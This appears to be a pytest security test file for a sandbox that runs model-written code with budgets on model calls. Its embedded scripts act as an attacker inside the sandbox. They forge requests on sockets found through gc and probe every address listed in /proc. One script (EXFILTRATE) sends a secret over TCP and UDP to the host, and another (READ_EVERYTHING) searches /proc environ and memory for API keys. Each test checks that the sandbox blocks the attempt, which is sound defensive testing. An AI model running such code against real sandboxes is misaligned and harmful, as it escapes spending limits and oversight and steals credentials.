"""Model code tries every way out of its run's budget and out of the sandbox, as an attacker would.

Real processes throughout: the pool's workers drop to their own uid in a network namespace of
their own; the handler whose restart is tested, and the pool whose environment is read, run in
processes of their own. Each route is one test, and each checks the same three things: no call
is served outside a budget (the backend sees only the session's run), no byte leaves the sandbox
(a listener on this host counts them), and the run's usage counts every call that was served.
docs/security.md has the table of routes, what stops each, and the test that shows it.
"""

from __future__ import annotations

import asyncio
import dataclasses
import json
import os
import signal
import socket
import sys
import threading
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import msgpack
import pytest
import zmq
import zmq.asyncio
from conftest import requires

from rlmq.lmhandler.backends import Backend, BackendRequest, Completion
from rlmq.lmhandler.config import parse_config
from rlmq.lmhandler.server import Handler
from rlmq.lmhandler.testing import HeldModel, echo_model, ipc_address, running_handler
from rlmq.orchestrator.budget import GuardedModels, GuardedSandbox
from rlmq.orchestrator.interfaces import SandboxSession
from rlmq.orchestrator.loop import RLM
from rlmq.orchestrator.settings import RunSettings
from rlmq.protocol import AsyncHandlerClient, ErrorCode, RemoteError, RunLimits, Usage
from rlmq.protocol.sandbox import AsyncSandboxClient, ExecResult
from rlmq.sandbox import Pool
from rlmq.sandbox.config import PoolConfig
from rlmq.sandbox.isolation import network_mode
from rlmq.sandbox.testing import running_pool

ROOT = os.geteuid() == 0
NETNS = network_mode(PoolConfig(handler="x"), bwrap=None)[0] != ""
# Workers on their own uid (the pool's directory is closed to them) and without network.
CONFINED = requires(ROOT and NETNS, "root and network namespaces (the pool confines workers with both)")

OWN, VICTIM, SHARED = "own-run", "victim-run", "shared-run"
OWN_KEY = "key-of-the-orchestrator"


class Recording(Backend):
    """Echo that records the run of every call it serves: what was spent, and on what."""

    def __init__(self) -> None:
        self.served: list[str | None] = []

    async def complete(self, request: BackendRequest) -> Completion:
        self.served.append(request.run)
        return Completion(request.messages[-1].content, "echo", Usage(3, 2), "end_turn")


@pytest.fixture
def recording() -> Recording:
    return Recording()


@pytest.fixture
async def handler(recording: Recording) -> AsyncIterator[Handler]:
    # Anonymous calls allowed (the default on loopback): the most a reachable handler gives away.
    config = parse_config({"models": {"sub": echo_model()}, "handler": {"bind": "tcp://127.0.0.1:0"}})
    config = dataclasses.replace(config, also_bind=(ipc_address("threats"),))  # an ipc endpoint too
    async with running_handler(config, backends={"sub": recording}) as h:
        h.runs.open_run(OWN, RunLimits(max_calls=4), OWN_KEY)
        h.runs.open_run(VICTIM, RunLimits(), "key-of-someone-else")
        h.runs.open_run(SHARED, RunLimits())  # no key: shared by id, as a load test's
        yield h


@pytest.fixture
async def pool(handler: Handler) -> AsyncIterator[Pool]:
    async with running_pool(handler.address or "", workers=1, exec_timeout_s=30.0) as p:
        yield p


@pytest.fixture
async def client(pool: Pool, actx: zmq.asyncio.Context) -> AsyncIterator[AsyncSandboxClient]:
    async with AsyncSandboxClient(pool.address or "", context=actx) as c:
        yield c


def output(result: ExecResult) -> Any:
    assert result.error is None, result.error
    return json.loads(result.stdout.strip().splitlines()[-1])


def spent_within_budget(handler: Handler, recording: Recording) -> None:
    """Every call served named the session's run, and the run's usage counts each of them."""
    assert set(recording.served) <= {OWN}, recording.served
    assert handler.runs.get(OWN).calls == len(recording.served)
    assert (handler.runs.get(VICTIM).calls, handler.runs.get(SHARED).calls) == (0, 0)
    assert handler.runs.find("made-up") is None


# ---------------------------------------------------------------- the worker's own sockets

REUSE_GC_SOCKETS = """
import gc, json, time, zmq, msgpack
socks = [o for o in gc.get_objects() if isinstance(o, zmq.Socket) and not o.closed]
used = []
for n, s in enumerate(socks):
    if s.getsockopt(zmq.ROUTING_ID).endswith(b":hb"):
        continue  # the heartbeat thread's: sending on it from here would only crash the worker
    for i, forged in enumerate(context["forgeries"]):
        req = {"v": 1, "op": "complete", "id": f"s{n}-c{i}", "model": "sub", "prompt": "spend", **forged}
        s.send(msgpack.packb(req))
    for op in ("run_open", "run_close", "usage", "stats"):
        s.send(msgpack.packb({"v": 1, "op": op, "id": f"s{n}-{op}", "run": "mine", "limits": {}}))
    used.append(s)
codes = {}
expected = len(context["forgeries"]) + 4  # the relay answers all of its own
deadline = time.monotonic() + 5
while time.monotonic() < deadline and sum(1 for k in codes if k.startswith("s")) < expected:
    for s in used:
        while s.poll(20):
            reply = msgpack.unpackb(s.recv_multipart()[-1])
            if isinstance(reply, dict) and isinstance(reply.get("id"), str):
                codes[reply["id"]] = "ok" if reply.get("ok") else reply["error"]["code"]
print(json.dumps({"sockets": len(socks), "codes": codes}))
"""

FORGERIES: list[dict[str, Any]] = [
    {},  # no run: anonymous
    {"run": "made-up"},  # a run never opened
    {"run": VICTIM, "key": "a-guess"},  # another client's run
    {"run": SHARED},  # a run without a key
    {"run": OWN, "depth": 0},  # its own run, posing as the root
    {"key": "x", "depth": 99},
]


@CONFINED
async def test_sockets_found_with_gc_carry_only_the_sessions_run(
    client: AsyncSandboxClient, handler: Handler, recording: Recording, pool: Pool
) -> None:
    session = await client.open(run=OWN, run_key=OWN_KEY, context={"forgeries": FORGERIES})
    result = output(await session.exec(REUSE_GC_SOCKETS))
    codes: dict[str, str] = result["codes"]
    assert result["sockets"] >= 3  # the pool link, its heartbeat twin, the relay
    relayed = {k: v for k, v in codes.items() if "-c" in k}
    # Whatever the code wrote, each call went out as the session's run: four served (its
    # max_calls), the rest refused by that run's budget. Nothing else answered a complete.
    assert sorted(relayed.values()) == ["budget_exceeded"] * 2 + ["ok"] * 4, codes
    for op in ("run_open", "run_close", "usage", "stats"):
        assert [v for k, v in codes.items() if k.endswith(op)] == ["unauthorized"], codes
    spent_within_budget(handler, recording)
    assert recording.served == [OWN] * 4
    assert pool.snapshot()["sub_calls"]["refused"] == 4  # the four ops the relay answered itself
    await session.close()


@CONFINED
async def test_the_per_exec_cap_holds_outside_the_worker(handler: Handler, actx: zmq.asyncio.Context) -> None:
    """The code skips llm_query (and its count) and writes to the relay's socket itself."""
    flood = (
        "import gc, json, zmq, msgpack\n"
        "relay = [o for o in gc.get_objects() if isinstance(o, zmq.Socket) and not o.closed\n"
        "         and len(o.getsockopt(zmq.ROUTING_ID)) == 32][0]\n"
        "for i in range(10):\n"
        "    req = {'v': 1, 'op': 'complete', 'id': str(i), 'model': 'sub', 'prompt': 'x'}\n"
        "    relay.send(msgpack.packb(req))\n"
        "codes = [msgpack.unpackb(relay.recv()) for _ in range(10)]\n"
        "print(json.dumps(sorted('ok' if c['ok'] else c['error']['code'] for c in codes)))\n"
    )
    handler.runs.open_run("capped", RunLimits())
    async with (
        running_pool(handler.address or "", workers=1, max_sub_calls_per_exec=3) as pool,
        AsyncSandboxClient(pool.address or "", context=actx) as client,
    ):
        session = await client.open(run="capped")
        assert output(await session.exec(flood)) == ["budget_exceeded"] * 7 + ["ok"] * 3
        assert handler.runs.get("capped").calls == 3
        again = await session.exec("print(llm_query('the count is per block'))")
        assert (again.error, again.stdout) == (None, "the count is per block\n")
        await session.close()


FAN_OUT = """
import gc, json, zmq, msgpack
relay = [o for o in gc.get_objects() if isinstance(o, zmq.Socket) and not o.closed
         and len(o.getsockopt(zmq.ROUTING_ID)) == 32][0]
for i in [*range(20), 0]:  # 20 calls at once, then an id already in flight
    relay.send(msgpack.packb({"v": 1, "op": "complete", "id": str(i), "model": "sub", "prompt": "x"}))
replies = [msgpack.unpackb(relay.recv()) for _ in range(21)]
codes = ["ok" if r["ok"] else f"{r['error']['code']} {r['error']['retryable']}" for r in replies]
print(json.dumps(sorted(codes)))
"""


@CONFINED
async def test_fan_out_past_max_batch_is_refused_outside_the_worker(actx: zmq.asyncio.Context) -> None:
    """The code skips llm_query_batched (and its waves) and sends 20 calls on the relay's socket."""
    held = HeldModel()
    async with running_handler({"sub": echo_model()}, backends={"sub": held}) as handler:
        handler.runs.open_run("fan", RunLimits())
        async with (
            running_pool(handler.address or "", workers=1, max_batch=8) as pool,
            AsyncSandboxClient(pool.address or "", context=actx) as client,
        ):
            session = await client.open(run="fan")
            flood = asyncio.create_task(session.exec(FAN_OUT))
            await held.entered(8)
            # The relay handles the worker's messages in order and no call is answered while the
            # model holds them, so once the relay has refused the other 13, nothing more reaches the
            # model. The relay has no event to wait on for that: poll its counter, bounded.
            async with asyncio.timeout(20):
                while pool.snapshot()["sub_calls"]["refused"] < 13:
                    await asyncio.sleep(0.01)
            assert (held.held, held.peak) == (8, 8)
            held.release()
            codes = output(await flood)
            assert codes == ["bad_request False"] + ["ok"] * 8 + ["overloaded True"] * 12
            assert handler.runs.get("fan").calls == held.calls == 8
            # The calls in flight were answered: the session may send a full wave again.
            again = output(await session.exec("print(json.dumps(len(llm_query_batched(['y'] * 20))))"))
            assert again == 20
            assert pool.snapshot()["sub_calls"]["refused"] == 13
            await session.close()


@CONFINED
async def test_rlm_query_limits_hold_outside_the_worker(handler: Handler, actx: zmq.asyncio.Context) -> None:
    """The code calls the worker's pool link itself (found with gc), skipping the namespace's
    count and its depth check: the pool keeps both."""
    bypass = (
        "import gc, json\n"
        "link = next(o for o in gc.get_objects() if type(o).__name__ == 'PoolLink')\n"
        "out = []\n"
        "for i in range(5):\n"
        "    try:\n"
        "        out.append(link.rlm_query(f'q{i}', None, 10))\n"
        "    except RLMQueryError as e:\n"
        "        out.append(e.code)\n"
        "print(json.dumps(out))\n"
    )
    children: list[str] = []

    async def child_run(prompt: str, context: Any) -> str:
        children.append(prompt)
        return f"child {prompt}"

    async with (
        running_pool(handler.address or "", workers=1, max_sub_calls_per_exec=2) as pool,
        AsyncSandboxClient(pool.address or "", context=actx) as client,
    ):
        session = await client.open(run=OWN, run_key=OWN_KEY, max_depth=3, on_rlm_query=child_run)
        assert output(await session.exec(bypass)) == ["child q0", "child q1"] + ["budget_exceeded"] * 3
        assert children == ["q0", "q1"]
        assert output(await session.exec(bypass))[:2] == ["child q0", "child q1"]  # per exec
        await session.close()
        # At max depth rlm_query is off: the pool refuses it, whatever the worker's namespace says.
        deepest = await client.open(run=OWN, run_key=OWN_KEY, depth=1, max_depth=2, on_rlm_query=child_run)
        assert output(await deepest.exec(bypass)) == ["bad_request"] * 5
        assert len(children) == 4
        await deepest.close()


def recording_router(address: str, seen: list[dict[str, Any]], stop: threading.Event) -> None:
    """A stand-in handler that records each request as it arrives and answers it."""
    ctx: zmq.Context[Any] = zmq.Context()
    sock = ctx.socket(zmq.ROUTER)
    sock.bind(address)
    try:
        while not stop.is_set():
            if not sock.poll(20):
                continue
            *envelope, payload = sock.recv_multipart()
            req = msgpack.unpackb(payload)
            seen.append(req)
            body = {"text": "ok", "model": "m", "usage": {}} if req["op"] == "complete" else {}
            sock.send_multipart([*envelope, msgpack.packb({"v": 1, "id": req["id"], "ok": True, **body})])
    finally:
        sock.close(linger=0)
        ctx.term()


@CONFINED
async def test_the_relay_writes_run_depth_and_key_whatever_the_code_sends(actx: zmq.asyncio.Context) -> None:
    seen: list[dict[str, Any]] = []
    stop = threading.Event()
    address = ipc_address("stand-in")
    thread = threading.Thread(target=recording_router, args=(address, seen, stop), daemon=True)
    thread.start()
    try:
        async with (
            running_pool(address, workers=1) as pool,
            AsyncSandboxClient(pool.address or "", context=actx) as client,
        ):
            session = await client.open(run="r-stamped", depth=1, max_depth=3, run_key="k-stamped")
            code = (
                "import gc, zmq, msgpack\n"
                "relay = [o for o in gc.get_objects() if isinstance(o, zmq.Socket) and not o.closed\n"
                "         and len(o.getsockopt(zmq.ROUTING_ID)) == 32][0]\n"
                "for forged in ({}, {'run': 'other', 'depth': 0, 'key': 'mine'}, {'run': None}):\n"
                "    relay.send(msgpack.packb({'v': 1, 'op': 'complete', 'id': 'x', 'model': 'm',\n"
                "                              'prompt': 'p', **forged}))\n"
                "    relay.recv()\n"
                "print(llm_query('through the namespace'))\n"
            )
            result = await session.exec(code)
            assert (result.error, result.stdout) == (None, "ok\n")
            await session.close()
    finally:
        stop.set()
        thread.join()
    completes = [r for r in seen if r["op"] == "complete"]
    assert len(completes) == 4
    assert {(r["run"], r["depth"], r["key"]) for r in completes} == {("r-stamped", 2, "k-stamped")}


# ---------------------------------------------------------------- every address it can find

EVERY_ADDRESS = """
import gc, json, os, re, socket, time, zmq, msgpack
pattern = re.compile(r"(?:ipc|tcp)://[^\\s'\\"\\x00,;)]+")
found = set(context["told"])
for o in gc.get_objects():
    if isinstance(o, str) and len(o) < 100_000:
        found.update(pattern.findall(o))
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            found.update(pattern.findall(open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace")))
        except OSError:
            pass
for line in open("/proc/net/unix").read().splitlines()[1:]:
    if line.split()[-1].startswith("/"):
        found.add("ipc://" + line.split()[-1])
ctx = zmq.Context()
opened, errors = [], {}
for address in sorted(found):
    if address.startswith("tcp://"):
        host, _, port = address[6:].rpartition(":")
        try:
            socket.create_connection((host.strip("[]") or "127.0.0.1", int(port)), timeout=1).close()
            errors[address] = "connected"
        except (OSError, ValueError) as e:
            errors[address] = type(e).__name__
    else:
        s = socket.socket(socket.AF_UNIX)
        try:
            s.connect(address[6:])
            errors[address] = "connected"
        except OSError as e:
            errors[address] = type(e).__name__
        finally:
            s.close()
    z = ctx.socket(zmq.DEALER)
    z.setsockopt(zmq.LINGER, 0)
    try:
        z.connect(address)
    except zmq.ZMQError:
        z.close()
        continue
    for i, req in enumerate([{}, {"run": context["victim"]}, {"run": context["shared"]}]):
        try:
            req = {"v": 1, "op": "complete", "id": str(i), "model": "sub", "prompt": "x", **req}
            z.send(msgpack.packb(req), zmq.NOBLOCK)
        except zmq.ZMQError:
            pass
    opened.append(z)
replies, deadline = 0, time.monotonic() + 2
while time.monotonic() < deadline:
    for z in opened:
        while z.poll(10):
            z.recv_multipart()
            replies += 1
print(json.dumps({"found": sorted(found), "errors": errors, "replies": replies}))
"""


@CONFINED
async def test_every_ipc_and_tcp_address_it_can_find_is_out_of_reach(
    client: AsyncSandboxClient, handler: Handler, recording: Recording, pool: Pool
) -> None:
    told = [*handler.addresses, pool.address or ""]

    def arrived() -> tuple[dict[str, int], int]:
        # What reached the handler (its warm workers' pings aside) and the pool's client socket.
        ops = {op: n for op, n in handler.stats.by_op.items() if op != "ping"}
        return ops, pool.stats.counters.get("received", 0)

    before = arrived()
    session = await client.open(
        run=OWN, run_key=OWN_KEY, context={"told": told, "victim": VICTIM, "shared": SHARED}
    )
    result = output(await session.exec(EVERY_ADDRESS))
    found: list[str] = result["found"]
    assert set(told) <= set(found)
    assert any(a.endswith("/relay.sock") for a in found)  # its own sockets, found with gc
    assert any(a.endswith("/workers.sock") for a in found)
    assert result["replies"] == 0
    for address, error in result["errors"].items():
        assert error != "connected", address
        if address in told and address.startswith("tcp://"):
            assert error == "OSError"  # ENETUNREACH: no network, not even loopback
    # Not one message reached the handler or the pool's client socket: only our open and exec.
    assert arrived() == (before[0], before[1] + 2)
    assert recording.served == []
    spent_within_budget(handler, recording)
    await session.close()


# ---------------------------------------------------------------- forged and unknown run ids


@CONFINED
async def test_sessions_spend_only_runs_their_opener_holds(
    client: AsyncSandboxClient, handler: Handler, recording: Recording
) -> None:
    code = "try:\n    llm_query('x')\nexcept LLMQueryError as e:\n    print(e.code)"
    for run, key in [("made-up", None), (VICTIM, None), (VICTIM, "a-guess"), (OWN, None), (OWN, "wrong")]:
        session = await client.open(run=run, run_key=key)
        result = await session.exec(code)
        assert (result.error, result.stdout) == (None, "unknown_run\n"), (run, key)
        await session.close()
    session = await client.open(run=OWN, run_key=OWN_KEY)
    assert (await session.exec("llm_query('mine')")).stdout == "'mine'\n"
    await session.close()
    assert recording.served == [OWN]
    spent_within_budget(handler, recording)


# ---------------------------------------------------------------- the network


class Listener:
    """A TCP listener on every interface of this host, counting the bytes that reach it."""

    def __init__(self) -> None:
        self.received = 0
        self.connections = 0
        self.server: asyncio.Server | None = None
        self.port = 0

    async def __aenter__(self) -> Listener:
        async def take(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            self.connections += 1
            while data := await reader.read(65536):
                self.received += len(data)
            writer.close()

        self.server = await asyncio.start_server(take, "0.0.0.0", 0)
        self.port = self.server.sockets[0].getsockname()[1]
        return self

    async def __aexit__(self, *exc: object) -> None:
        assert self.server is not None
        self.server.close()
        await self.server.wait_closed()


def host_addresses() -> list[str]:
    addresses = {"127.0.0.1"}
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))  # no packet is sent: this picks the outgoing interface
            addresses.add(probe.getsockname()[0])
        except OSError:
            pass
    return sorted(addresses)


EXFILTRATE = """
import json, socket
sent = {}
for host in context["hosts"]:
    try:
        with socket.create_connection((host, context["port"]), timeout=2) as s:
            s.sendall(context["secret"].encode())
        sent[host] = "sent"
    except OSError as e:
        sent[host] = type(e).__name__
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
            u.sendto(b"udp", (host, context["port"]))
    except OSError:
        pass
print(json.dumps(sent))
"""


@CONFINED
async def test_no_byte_reaches_a_listener_on_this_host(handler: Handler, actx: zmq.asyncio.Context) -> None:
    handler.runs.open_run("r-net", RunLimits())
    async with Listener() as listener:
        context = {"hosts": host_addresses(), "port": listener.port, "secret": "the document's secret"}
        for network, reached in ((False, False), (True, True)):  # network = true: the positive control
            async with (
                running_pool(handler.address or "", workers=1, network=network) as pool,
                AsyncSandboxClient(pool.address or "", context=actx) as client,
            ):
                session = await client.open(run="r-net", context=context)
                sent = output(await session.exec(EXFILTRATE))
                await session.close()
            if reached:
                assert "sent" in sent.values(), sent
                # the bytes were sent before the exec returned; the listener reads them in this loop
                async with asyncio.timeout(10):
                    while listener.received == 0:
                        await asyncio.sleep(0.01)  # no event to wait on: a bounded poll of a counter
            else:
                assert set(sent.values()) == {"OSError"}, sent  # ENETUNREACH, loopback included
                assert (listener.connections, listener.received) == (0, 0)


# ---------------------------------------------------------------- the pool's environment, /proc

SECRET = "sk-ant-threat-test-secret"

READ_EVERYTHING = """
import gc, json, os
texts = [json.dumps(dict(os.environ))]
for pid in ["self", *(p for p in os.listdir("/proc") if p.isdigit())]:
    for name in ("environ", "cmdline", "mem", "maps"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as f:
                texts.append(f.read(1 << 20).decode(errors="replace"))
        except OSError:
            pass
texts += [o for o in gc.get_objects() if isinstance(o, str)]
blob = "\\n".join(texts)
readable = os.access(f"/proc/{context['pool_pid']}/environ", os.R_OK)
print(json.dumps({"pool_environ": readable, "hits": [w for w in context["needles"] if w in blob]}))
"""


async def start_process(
    *args: str, ready: str, env: dict[str, str]
) -> tuple[asyncio.subprocess.Process, str]:
    process = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "rlmq", *args, stdout=asyncio.subprocess.PIPE, env=env, start_new_session=True
    )
    assert process.stdout is not None
    line = (await asyncio.wait_for(process.stdout.readline(), 60)).decode()
    assert line.startswith(ready), line
    return process, line.split()[-1]


async def stop_process(process: asyncio.subprocess.Process, sig: int = signal.SIGTERM) -> None:
    if process.returncode is None:
        process.send_signal(sig)
    await asyncio.wait_for(process.wait(), 30)


@CONFINED
async def test_the_pools_environment_and_proc_hold_nothing_to_use(
    handler: Handler, actx: zmq.asyncio.Context, tmp_path: Path
) -> None:
    env = dict(os.environ, ANTHROPIC_API_KEY=SECRET, RLMQ_TEST_TOKEN=SECRET + "-token")
    pool_process, address = await start_process(
        "sandbox",
        "--handler",
        handler.address or "",
        "--bind",
        f"ipc://{tmp_path}/pool.sock",
        "--workers",
        "1",
        ready="sandbox ready on",
        env=env,
    )
    try:
        async with AsyncSandboxClient(address, context=actx) as client:
            session = await client.open(
                run=OWN,
                run_key=OWN_KEY,
                context={"pool_pid": pool_process.pid, "needles": [SECRET, OWN_KEY, "RLMQ_TEST_TOKEN"]},
            )
            result = output(await session.exec(READ_EVERYTHING))
            await session.close()
    finally:
        await stop_process(pool_process)
    assert result["pool_environ"] is False
    assert result["hits"] == []  # no API key, no token, not the run's key


# ---------------------------------------------------------------- a handler restart mid-run


def handler_config(directory: Path, name: str, responses: list[str]) -> str:
    script = directory / f"{name}.json"
    script.write_text(json.dumps(responses))
    config = directory / f"{name}.toml"
    config.write_text(
        f'[models.root]\nbackend = "script"\npath = "{script}"\n[models.sub]\nbackend = "echo"\n'
    )
    return str(config)


class KillAfterFirstExec:
    """The loop's sandbox, with a handler restart between the first exec and the next model call."""

    def __init__(self, inner: GuardedSandbox, restart: Any) -> None:
        self.inner = inner
        self.restart = restart

    async def open(self, **kw: Any) -> SandboxSession:
        session = await self.inner.open(**kw)
        restart = self.restart

        class Session:
            async def exec(self, code: str) -> ExecResult:
                result = await session.exec(code)
                await restart()
                return result

            async def close(self) -> None:
                await session.close()

        return Session()


@CONFINED
async def test_a_handler_restart_mid_run_reopens_the_run_with_what_is_left(
    tmp_path: Path, actx: zmq.asyncio.Context
) -> None:
    first = handler_config(tmp_path, "first", ["```repl\nprint(llm_query_batched(['a', 'b']))\n```"])
    second = handler_config(tmp_path, "second", ["```repl\nprint(llm_query('c'))\n```", "FINAL(done)"])
    bind = f"ipc://{tmp_path}/handler.sock"
    env = dict(os.environ)
    process, address = await start_process(
        "handler", "--config", first, "--bind", bind, ready="lmhandler ready", env=env
    )
    served: list[int] = []
    restarted = asyncio.Event()

    async def served_by(client: AsyncHandlerClient) -> int:
        models = (await client.stats())["models"]
        return int(models["root"]["ok"] + models["sub"]["ok"])

    async def restart() -> None:
        nonlocal process
        if restarted.is_set():
            return
        restarted.set()
        async with AsyncHandlerClient(address, context=actx) as probe:
            served.append(await served_by(probe))
        await stop_process(process, signal.SIGKILL)  # no goodbye: every run it held is gone
        process, _ = await start_process(
            "handler", "--config", second, "--bind", bind, ready="lmhandler ready", env=env
        )
        async with AsyncHandlerClient(address, context=actx) as stranger:
            # The new handler does not serve the old run id to anyone, limits or not.
            with pytest.raises(RemoteError) as info:
                await stranger.complete("x", model="sub", run="r-restart")
            assert info.value.code == ErrorCode.UNKNOWN_RUN

    try:
        async with (
            running_pool(address, workers=1) as pool,
            AsyncHandlerClient(address, context=actx, timeout_s=30) as hc,
            AsyncSandboxClient(pool.address or "", context=actx) as sc,
        ):
            models = GuardedModels(hc)
            settings = RunSettings(max_iterations=5, max_calls=5)
            rlm = RLM(models, KillAfterFirstExec(GuardedSandbox(sc, models), restart), settings)
            result = await rlm.run("q", "ctx", run_id="r-restart")
            async with AsyncHandlerClient(address, context=actx) as probe:
                served.append(await served_by(probe))
    finally:
        await stop_process(process)
    assert restarted.is_set()
    # Before: the root call and two sub-calls. After: the run reopened with 2 calls left, which
    # the next root call and its sub-call spent; the call for the answer was refused.
    assert served == [3, 2]
    assert result.stop_reason == "budget_exceeded", result
    assert result.usage is not None
    assert result.usage.calls == sum(served) == 5
    assert models.reopens("r-restart") == 1
